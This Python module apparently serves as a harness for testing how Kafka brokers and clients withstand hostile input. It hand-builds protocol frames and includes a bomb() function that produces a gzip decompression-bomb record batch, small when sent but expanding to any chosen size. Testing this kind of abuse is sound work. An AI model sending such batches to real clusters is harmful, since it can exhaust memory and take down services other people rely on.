"""Just enough of Kafka's protocol to misuse it: frames and a few requests, by hand."""
import socket
import struct
import zlib

from kafka.record.util import calc_crc32c, encode_varint

API_VERSIONS, METADATA, FETCH, PRODUCE = 18, 3, 1, 0


def connect(address, receive_buffer=None, timeout=30):
    s = socket.socket()
    s.settimeout(timeout)
    if receive_buffer:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    host, port = address.rsplit(":", 1)
    s.connect((host, int(port)))
    return s


def text(value):
    return struct.pack(">h", len(value)) + value.encode()


def frame(api, version, body, correlation=1):
    payload = struct.pack(">hhi", api, version, correlation) + text("hostile") + body
    return struct.pack(">i", len(payload)) + payload


def metadata(topics):
    return frame(METADATA, 4, struct.pack(">i", len(topics)) + b"".join(text(t) for t in topics) + b"\x01")


def fetch(topic, partition_bytes):
    return frame(FETCH, 4, struct.pack(">iiiib", -1, 1000, 1, partition_bytes, 0) + struct.pack(">i", 1) + text(topic) + struct.pack(">iiqi", 1, 0, 0, partition_bytes))


def produce(topic, batch):
    return frame(PRODUCE, 3, struct.pack(">hhii", -1, -1, 10000, 1) + text(topic) + struct.pack(">iii", 1, 0, len(batch)) + batch)


def varint(number):
    out = bytearray()
    encode_varint(number, out.append)
    return bytes(out)


def batch(value):
    """One record, not compressed."""
    body = b"\x00" + varint(0) + varint(0) + varint(1) + b"k" + varint(len(value)) + value + varint(0)
    return whole_batch(0, varint(len(body)) + body)


def bomb(value_bytes):
    """A batch of one record whose gzip data is small and whose value is value_bytes zeros."""
    head = b"\x00" + varint(0) + varint(0) + varint(1) + b"k" + varint(value_bytes)
    length = len(head) + value_bytes + 1
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    records = squeeze.compress(varint(length) + head)
    piece = bytes(1 << 20)
    for _ in range(value_bytes >> 20):
        records += squeeze.compress(piece)
    records += squeeze.compress(b"\x00") + squeeze.flush()
    return whole_batch(1, records)


def whole_batch(attributes, records):
    behind_crc = struct.pack(">hiqqqhii", attributes, 0, 1000, 1000, -1, -1, -1, 1) + records
    behind_length = struct.pack(">ibI", -1, 2, calc_crc32c(behind_crc)) + behind_crc
    return struct.pack(">qi", 0, len(behind_length)) + behind_length


def produce_error(got):
    """The error code in the answer to produce()."""
    at = 4 + 4
    at += 2 + struct.unpack_from(">h", got, at)[0] + 4 + 4
    return struct.unpack_from(">h", got, at)[0]


def read_exactly(s, size):
    data = b""
    while len(data) < size:
        piece = s.recv(size - len(data))
        if not piece:
            return None
        data += piece
    return data


def answer(s):
    """One answer's bytes; None: the connection was closed."""
    try:
        head = read_exactly(s, 4)
        return None if head is None else read_exactly(s, struct.unpack(">i", head)[0])
    except (ConnectionError, BrokenPipeError):
        return None
